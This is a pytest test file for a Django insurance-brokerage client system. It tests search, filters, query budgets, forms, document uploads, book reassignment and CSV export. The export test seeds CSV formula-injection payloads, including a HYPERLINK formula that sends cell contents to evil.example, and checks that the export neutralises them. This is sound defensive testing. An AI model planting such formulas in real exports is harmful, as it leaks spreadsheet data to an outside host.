"""The client pages: search, filters, the client file, forms, documents, reassignment, export."""

import csv
import datetime
import io
import re
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from brokerage.accounts.tests.factories import TeamFactory, UserFactory
from brokerage.core.models import ExportRecord
from brokerage.notifications.models import Message
from clients import services
from clients.models import (
    Client,
    ClientAccess,
    ClientDocument,
    ClientKind,
    ClientStatus,
    Interaction,
)
from clients.tests.factories import ClientFactory, CorporateClientFactory
from policies.tests.factories import (
    InsurerFactory,
    PolicyFactory,
    QuotationFactory,
    QuoteFactory,
    VehicleFactory,
    make_vin,
)

pytestmark = pytest.mark.django_db

# Measured on PostgreSQL with 5 clients and asserted unchanged for 60: session, user and roles
# (3), co-assigned ids, count, the user's and the roles' permissions (2), the page, its
# co-assigned agents, and the session's save (3). The search adds one for the policy matcher.
LIST_QUERIES = 12
SEARCH_QUERIES = 13
# The client file, measured with one policy, one interaction and two history rows, and
# asserted unchanged with 15 policies (30 vehicles, 30 quotes), 40 interactions, 45 edits.
# One more for the file's claims (claims/_claims_of.html: one query whatever their number),
# two for its policy service (servicing/_client_section.html: its requests, its cases), one
# for its service touches (touches/_client_section.html).
DETAIL_QUERIES = 24


def png_bytes(width: int = 2, height: int = 2) -> bytes:
    """A small but real PNG image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    raw = b"".join(b"\x00" + b"\x10\x80\xf0" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def _upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def _listed(response) -> list[int]:
    return [c.pk for c in response.context["page"].object_list]


def _search(django_client, q, **params):
    return _listed(django_client.get(reverse("clients:list"), {"q": q, **params}))


# --- The one search box --------------------------------------------------------------------


@pytest.fixture
def book(agent):
    """An agent's small book: the client searched for, and a decoy that must not match."""
    target = ClientFactory(
        owner=agent,
        first_name="Guadalupe",
        last_name="Hernández",
        phone="+525512345678",
        national_id="HEGU800101MDFRRD07",
    )
    decoy = ClientFactory(owner=agent, first_name="Pedro", last_name="Sánchez")
    company = CorporateClientFactory(
        owner=agent, legal_name="Transportes Ñandú", tax_id="TNA010203XY9"
    )
    insurer = InsurerFactory(code="gnp", name="GNP Seguros")
    dashed = PolicyFactory(holder=target, insurer=insurer, number="GNP-0042-77")
    plain = PolicyFactory(holder=company, insurer=insurer, number="GNP123456")
    vehicle = VehicleFactory(policy=dashed, plate="ABC123", vin=make_vin(777))
    return {
        "target": target,
        "decoy": decoy,
        "company": company,
        "dashed": dashed,
        "plain": plain,
        "vehicle": vehicle,
    }


@pytest.mark.parametrize(
    "query",
    [
        "ernánd",
        "HERNÁN",
        "guadalupe hern",
        "55 1234 5678",
        "5512345678",
        "+52 55 1234 5678",
        "+525512345678",
        "HEGU800101MDFRRD07",
        "hegu800101mdfrrd07",
        "GNP-0042-77",
        "gnp-0042-77",
        "ABC123",
        "abc-123",
        "ABC 123",
        "abc 123",
    ],
)
def test_it_finds_a_client_by_name_phone_id_policy_and_plate(client, agent, book, query):
    client.force_login(agent)
    assert _search(client, query) == [book["target"].pk]


def test_it_finds_a_client_by_vin_in_any_case(client, agent, book):
    client.force_login(agent)
    vin = book["vehicle"].vin
    assert _search(client, vin) == [book["target"].pk]
    assert _search(client, vin.lower()) == [book["target"].pk]
    assert _search(client, f"{vin[:8]} {vin[8:]}") == [book["target"].pk]


@pytest.mark.parametrize("query", ["TNA010203XY9", "tna010203xy9", "tna-010203-xy9"])
def test_it_finds_a_company_by_tax_id_in_any_case(client, agent, book, query):
    client.force_login(agent)
    assert _search(client, query) == [book["company"].pk]


@pytest.mark.parametrize(
    "query", ["RAMO-750912-HDFMRS04", "ramo750912hdfmrs04", "ＲＡＭＯ７５０９１２ＨＤＦＭＲＳ０４"]
)
def test_it_finds_an_id_stored_with_separators_in_its_normal_form(client, agent, query):
    """IDs compare in normal form (the expression index), however stored or typed."""
    stored = ClientFactory(owner=agent, first_name="Rosa", national_id="RAMO-750912-HDFMRS04")
    ClientFactory(owner=agent, first_name="Otra", national_id="RAMO750912HDFMRS05")
    client.force_login(agent)
    assert _search(client, query) == [stored.pk]


@pytest.mark.parametrize("query", ["GNP123456", "gnp-123-456", "GNP 123 456"])
def test_it_finds_a_policy_number_typed_with_dashes_that_has_none(client, agent, book, query):
    client.force_login(agent)
    assert _search(client, query) == [book["company"].pk]


def test_it_finds_a_dashed_policy_number_typed_without_dashes(client, agent, book):
    client.force_login(agent)
    assert _search(client, "GNP004277") == [book["target"].pk]


def test_it_finds_nothing_for_a_phone_of_nobody(client, agent, book):
    client.force_login(agent)
    assert _search(client, "55 9999 0000") == []
    assert _search(client, "XYZ999") == []


# --- Filters -------------------------------------------------------------------------------


@pytest.fixture
def assorted(agent):
    second = UserFactory(roles=["agent"])
    return {
        "prospect": ClientFactory(owner=agent, status=ClientStatus.PROSPECT),
        "active": ClientFactory(owner=agent, status=ClientStatus.ACTIVE),
        "company": CorporateClientFactory(owner=agent, status=ClientStatus.ACTIVE),
        "key_alone": ClientFactory(owner=agent, is_key=True),
        "key_covered": ClientFactory(owner=agent, is_key=True, co_agents=[second]),
        "key_no_owner": ClientFactory(owner=None, is_key=True, co_agents=[second]),
        "no_owner": ClientFactory(owner=None),
        "inaccurate": ClientFactory(owner=agent, contact_inaccurate=True),
        "vip": ClientFactory(owner=agent, vip_tier="gold"),
    }


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "prospect"}, {"prospect"}),
        ({"kind": "corporate"}, {"company"}),
        ({"key_uncovered": "1"}, {"key_alone", "key_no_owner"}),
        ({"no_owner": "1"}, {"key_no_owner", "no_owner"}),
        ({"inaccurate": "1"}, {"inaccurate"}),
        ({"vip": "1"}, {"vip"}),
        ({"kind": "corporate", "status": "prospect"}, set()),
    ],
)
def test_it_filters_the_client_list(client, maintainer, assorted, params, expected):
    client.force_login(maintainer)
    listed = set(_listed(client.get(reverse("clients:list"), params)))
    assert listed == {assorted[name].pk for name in expected}


def test_it_ignores_an_unknown_filter_value(client, maintainer, assorted):
    client.force_login(maintainer)
    listed = _listed(client.get(reverse("clients:list"), {"status": "bogus", "kind": "x"}))
    assert len(listed) == len(assorted)


def test_it_answers_htmx_with_the_table_only(client, agent, book):
    client.force_login(agent)
    url = reverse("clients:list")
    full = client.get(url, {"q": "Hernández"}).content.decode()
    assert 'role="search"' in full and "<nav" in full and 'id="client-table"' in full

    response = client.get(
        url, {"q": "Hernández"}, headers={"HX-Request": "true", "HX-Target": "client-table"}
    )
    html = response.content.decode()
    assert html.lstrip().startswith('<div id="client-table">')
    assert "<nav" not in html and 'role="search"' not in html and "<html" not in html
    assert "Guadalupe Hernández" in html
    assert "Pedro Sánchez" not in html


def _crowd(agent, n):
    """n clients with co-assigned agents; every other one a key client, whose row counts
    its assigned people (the co-assigned agents must come from one prefetch)."""
    helpers = [UserFactory(roles=["agent"]) for _ in range(3)]
    for i in range(n):
        ClientFactory(
            owner=agent,
            last_name=f"García {i:03d}",
            is_key=i % 2 == 0,
            vip_tier="gold" if i % 3 == 0 else "",
            co_agents=helpers[: i % 3],
        )


@pytest.mark.parametrize("n", [5, 60])
def test_it_lists_clients_in_a_fixed_number_of_queries(
    client, agent, n, django_assert_max_num_queries
):
    _crowd(agent, n)
    client.force_login(agent)
    with django_assert_max_num_queries(LIST_QUERIES):
        response = client.get(reverse("clients:list"))
    assert len(_listed(response)) == min(n, 50)


@pytest.mark.parametrize("n", [5, 60])
def test_it_searches_in_a_fixed_number_of_queries(client, agent, n, django_assert_max_num_queries):
    _crowd(agent, n)
    client.force_login(agent)
    with django_assert_max_num_queries(SEARCH_QUERIES):
        response = client.get(reverse("clients:list"), {"q": "garcía"})
    assert len(_listed(response)) == min(n, 50)
    assert response.context["page"].paginator.count == n


# --- The client file -----------------------------------------------------------------------


def test_it_records_each_opening_of_the_file(client, agent):
    holder = ClientFactory(owner=agent)
    client.force_login(agent)
    client.get(reverse("clients:detail", args=[holder.pk]))
    client.get(reverse("clients:detail", args=[holder.pk]))
    accesses = ClientAccess.objects.filter(client=holder)
    assert accesses.count() == 2
    assert set(accesses.values_list("user", flat=True)) == {agent.pk}


def test_it_shows_who_opened_the_file_to_a_maintainer_only(client, agent, maintainer):
    holder = ClientFactory(owner=agent)
    client.force_login(agent)
    html = client.get(reverse("clients:detail", args=[holder.pk])).content.decode()
    assert 'id="accesses"' not in html
    client.force_login(maintainer)
    html = client.get(reverse("clients:detail", args=[holder.pk])).content.decode()
    opened = _section(html, "accesses")
    assert str(agent) in opened and str(maintainer) in opened


def _fill_file(holder, agent, *, policies, interactions, edits):
    insurer = InsurerFactory()
    for i in range(policies):
        policy = PolicyFactory(holder=holder, insurer=insurer)
        VehicleFactory(policy=policy)
        VehicleFactory(policy=policy)
        quotation = QuotationFactory(client=holder, created_by=agent)
        QuoteFactory(quotation=quotation, insurer=insurer)
        QuoteFactory(quotation=quotation, insurer=InsurerFactory())
        services.document_upload(
            client=holder,
            by=agent,
            kind="other",
            upload=_upload(f"doc{i}.png", png_bytes()),
        )
    for i in range(interactions):
        services.interaction_log(client=holder, by=agent, channel="call", summary=f"Llamada {i}")
    other = UserFactory(roles=["agent"])
    for i in range(edits):
        services.client_update(
            client=holder,
            by=agent if i % 2 else other,
            data={"notes": f"nota {i}", "email": f"c{i}@example.com"},
        )


@pytest.mark.parametrize("size", [(1, 1, 2), (15, 40, 45)], ids=["few", "many"])
def test_it_opens_the_file_in_a_fixed_number_of_queries(
    client, agent, settings, tmp_path, size, django_assert_max_num_queries
):
    settings.MEDIA_ROOT = tmp_path
    policies, interactions, edits = size
    holder = ClientFactory(owner=agent, co_agents=[UserFactory(roles=["agent"])])
    _fill_file(holder, agent, policies=policies, interactions=interactions, edits=edits)
    client.force_login(agent)
    with django_assert_max_num_queries(DETAIL_QUERIES):
        response = client.get(reverse("clients:detail", args=[holder.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert html.count("data-policy=") == policies
    assert len(response.context["timeline"]) == interactions
    assert len(response.context["history"]) == edits + 1


# --- Create and edit forms -----------------------------------------------------------------

VALID_INDIVIDUAL = {
    "first_name": "Ana",
    "last_name": "López",
    "phone": "55 1234 5678",
    "email": "ana@example.com",
    "language": "es",
    "status": "prospect",
}
VALID_COMPANY = {
    "legal_name": "Abarrotes La Esperanza SA de CV",
    "tax_id": "ALE010203AB1",
    "phone": "+52 33 1234 5678",
    "email": "compras@esperanza.example",
    "language": "es",
    "status": "prospect",
}
TOMORROW = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
INVALID = [
    pytest.param("individual", {"phone": "12345"}, "phone", id="invalid-phone"),
    pytest.param("individual", {"email": "ana@"}, "email", id="invalid-email"),
    pytest.param("individual", {"birthday": TOMORROW}, "birthday", id="future-birthday"),
    pytest.param("corporate", {"legal_name": ""}, "legal_name", id="company-without-name"),
]


def test_it_creates_a_client_owned_by_the_agent(client, agent):
    client.force_login(agent)
    response = client.post(reverse("clients:create") + "?kind=individual", VALID_INDIVIDUAL)
    created = Client.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("clients:detail", args=[created.pk])
    assert created.owner == agent
    assert created.display_name == "Ana López"
    assert str(created.phone) == "+52 55 1234 5678"


@pytest.mark.parametrize(("kind", "change", "field"), INVALID)
def test_it_shows_field_errors_on_create_and_saves_nothing(client, agent, kind, change, field):
    client.force_login(agent)
    data = {**(VALID_COMPANY if kind == "corporate" else VALID_INDIVIDUAL), **change}
    response = client.post(reverse("clients:create") + f"?kind={kind}", data)
    assert response.status_code == 200
    assert list(response.context["form"].errors) == [field]
    assert f'id="error_1_id_{field}"' in response.content.decode()
    assert not Client.objects.exists()
    assert not Client.history.exists()


@pytest.mark.parametrize(("kind", "change", "field"), INVALID)
def test_it_shows_field_errors_on_edit_and_saves_nothing(client, agent, kind, change, field):
    if kind == "corporate":
        existing = CorporateClientFactory(
            owner=agent, **{k: VALID_COMPANY[k] for k in ("legal_name", "tax_id", "email")}
        )
        base = VALID_COMPANY
    else:
        existing = ClientFactory(
            owner=agent, first_name="Ana", last_name="López", email="ana@example.com"
        )
        base = VALID_INDIVIDUAL
    before = Client.objects.values().get(pk=existing.pk)
    history = existing.history.count()
    client.force_login(agent)
    response = client.post(reverse("clients:edit", args=[existing.pk]), {**base, **change})
    assert response.status_code == 200
    assert list(response.context["form"].errors) == [field]
    assert f'id="error_1_id_{field}"' in response.content.decode()
    assert Client.objects.values().get(pk=existing.pk) == before
    assert existing.history.count() == history


def _section(html: str, section_id: str) -> str:
    match = re.search(rf'<section[^>]*id="{section_id}".*?</section>', html, re.S)
    assert match, f"no section #{section_id}"
    return match.group(0)


def test_it_shows_an_edit_as_before_and_after_in_the_history(client, agent):
    existing = ClientFactory(
        owner=agent, first_name="Ana", last_name="López", email="ana.vieja@example.com"
    )
    client.force_login(agent)
    response = client.post(
        reverse("clients:edit", args=[existing.pk]),
        {**VALID_INDIVIDUAL, "email": "ana.nueva@example.com", "phone": "+52 55 8765 4321"},
    )
    assert response.status_code == 302
    html = client.get(reverse("clients:detail", args=[existing.pk])).content.decode()
    history = _section(html, "history")
    email_row = re.search(r'<tr data-field="e-mail">.*?</tr>', history, re.S).group(0)
    assert '<del class="text-danger">ana.vieja@example.com</del>' in email_row
    assert '<ins class="text-success">ana.nueva@example.com</ins>' in email_row
    phone_row = re.search(r'<tr data-field="phone">.*?</tr>', history, re.S).group(0)
    assert "+52 55 8765 4321" in phone_row
    assert str(agent) in history


def test_it_puts_a_logged_interaction_on_the_timeline(client, agent):
    holder = ClientFactory(owner=agent)
    client.force_login(agent)
    response = client.post(
        reverse("clients:interaction_create", args=[holder.pk]),
        {
            "channel": "whatsapp",
            "direction": "in",
            "summary": "Pregunta por la renovación",
            "result": "Enviar cotización",
        },
    )
    assert response.status_code == 302
    assert response["Location"].endswith("#timeline")
    interaction = Interaction.objects.get(client=holder)
    assert interaction.user == agent
    html = client.get(reverse("clients:detail", args=[holder.pk])).content.decode()
    timeline = _section(html, "timeline")
    assert "Pregunta por la renovación" in timeline
    assert "Enviar cotización" in timeline
    assert "WhatsApp" in timeline


def test_it_refuses_an_interaction_without_summary(client, agent):
    holder = ClientFactory(owner=agent)
    client.force_login(agent)
    response = client.post(
        reverse("clients:interaction_create", args=[holder.pk]),
        {"channel": "call", "direction": "out", "summary": ""},
        follow=True,
    )
    assert not Interaction.objects.exists()
    assert "The contact was not logged" in response.content.decode()


# --- Documents -----------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def test_it_refuses_a_text_file_named_pdf_and_keeps_nothing(client, agent, media):
    holder = ClientFactory(owner=agent)
    client.force_login(agent)
    response = client.post(
        reverse("clients:document_upload", args=[holder.pk]),
        {"kind": "national_id", "file": _upload("ine.pdf", b"Just some text, not a PDF.\n")},
        follow=True,
    )
    assert response.status_code == 200
    assert "Only PDF, JPEG and PNG files can be kept" in response.content.decode()
    assert not ClientDocument.objects.exists()
    assert not [p for p in media.rglob("*") if p.is_file()]


def test_it_keeps_a_png_and_serves_the_same_bytes(client, agent, media):
    holder = ClientFactory(owner=agent)
    content = png_bytes(4, 3)
    client.force_login(agent)
    response = client.post(
        reverse("clients:document_upload", args=[holder.pk]),
        {
            "kind": "drivers_licence",
            "file": _upload("licencia.png", content, "application/pdf"),
            "description": "Licencia vigente",
        },
    )
    assert response.status_code == 302
    document = ClientDocument.objects.get(client=holder)
    assert document.content_type == "image/png"  # read from the bytes, not from the browser
    assert document.original_name == "licencia.png"
    assert document.size == len(content)
    html = client.get(reverse("clients:detail", args=[holder.pk])).content.decode()
    assert "licencia.png" in _section(html, "documents")

    download = client.get(reverse("clients:document_download", args=[document.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "image/png"
    assert "attachment" in download["Content-Disposition"]
    assert "licencia.png" in download["Content-Disposition"]
    assert b"".join(download.streaming_content) == content


# --- Reassigning a book --------------------------------------------------------------------


@pytest.fixture
def departing_book():
    manager = UserFactory(roles=["manager"])
    team = TeamFactory(manager=manager)
    leaving = UserFactory(roles=["agent"], team=team, first_name="Saúl", last_name="Vega")
    receivers = [
        UserFactory(
            roles=["agent"],
            team=team,
            first_name=name,
            last_name="Ruiz",
            phone=f"+52551111000{i}",
            email=f"{name.lower()}@cartera.example",
        )
        for i, name in enumerate(["Alma", "Beto", "Cira"])
    ]
    clients = [ClientFactory(owner=leaving, email=f"cliente{i}@example.com") for i in range(7)]
    return {"manager": manager, "leaving": leaving, "receivers": receivers, "clients": clients}


def test_it_previews_the_shares_of_a_book(client, departing_book):
    book = departing_book
    client.force_login(book["manager"])
    response = client.post(
        reverse("clients:book_reassign"),
        {
            "from_agent": book["leaving"].pk,
            "to_agents": [a.pk for a in book["receivers"]],
            "notify": "on",
        },
    )
    assert response.status_code == 200
    shares = response.context["preview"]["shares"]
    assert [n for _agent, n in shares] == [3, 2, 2]
    preview = re.search(r'data-testid="preview".*?</div>', response.content.decode(), re.S).group(0)
    assert "7 clients of Saúl Vega will move" in preview
    for agent in book["receivers"]:
        assert str(agent) in preview
    # A preview moves nobody and tells nobody.
    assert Client.objects.filter(owner=book["leaving"]).count() == 7
    assert not Message.objects.exists()


def test_it_spreads_a_book_of_seven_over_three_agents(client, departing_book):
    book = departing_book
    client.force_login(book["manager"])
    response = client.post(
        reverse("clients:book_reassign"),
        {
            "from_agent": book["leaving"].pk,
            "to_agents": [a.pk for a in book["receivers"]],
            "notify": "on",
            "confirm": "1",
        },
    )
    assert response.status_code == 302
    counts = sorted(
        Client.objects.filter(owner__in=book["receivers"]).values_list("owner", flat=True)
    )
    per_agent = sorted(counts.count(a.pk) for a in book["receivers"])
    assert per_agent == [2, 2, 3]
    assert not Client.objects.filter(owner=book["leaving"]).exists()

    messages = list(Message.objects.all())
    assert len(messages) == 7
    by_address = {m.to: m for m in messages}
    for holder in Client.objects.filter(pk__in=[c.pk for c in book["clients"]]).select_related(
        "owner"
    ):
        message = by_address[holder.email]
        assert message.template == "agent_changed"
        assert str(holder.owner.phone) in message.body
        assert holder.owner.email in message.body
        assert holder.display_name in message.body
        # The history says who moved the client and why.
        last = holder.history.first()
        assert last.history_user == book["manager"]
        assert last.history_change_reason == "book reassigned"


def test_it_refuses_the_book_page_to_agents(client, departing_book):
    client.force_login(departing_book["receivers"][0])
    response = client.post(
        reverse("clients:book_reassign"),
        {
            "from_agent": departing_book["leaving"].pk,
            "to_agents": [departing_book["receivers"][0].pk],
            "confirm": "1",
        },
    )
    assert response.status_code == 403
    assert Client.objects.filter(owner=departing_book["leaving"]).count() == 7


# --- Export --------------------------------------------------------------------------------


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_it_neutralises_formulas_in_the_csv_and_records_the_export(client, maintainer):
    names = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Ver póliza")',
        "+SUM(1+1)",
        "-2+3",
        "@cmd",
    ]
    for name in names:
        CorporateClientFactory(legal_name=name, tax_id="")
    ClientFactory(first_name="Inés", last_name="Ortega", status=ClientStatus.ACTIVE)
    client.force_login(maintainer)
    response = client.get(reverse("clients:export"), {"kind": "corporate"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv_rows(response)
    assert rows[0][0] == "Name"
    cells = sorted(row[0] for row in rows[1:])
    assert cells == sorted("'" + name for name in names)
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@"))
        assert row[1] == "Corporate"

    record = ExportRecord.objects.get()
    assert record.user == maintainer
    assert record.what == "clients"
    assert record.filters == {"kind": ClientKind.CORPORATE}
    assert record.rows == 4
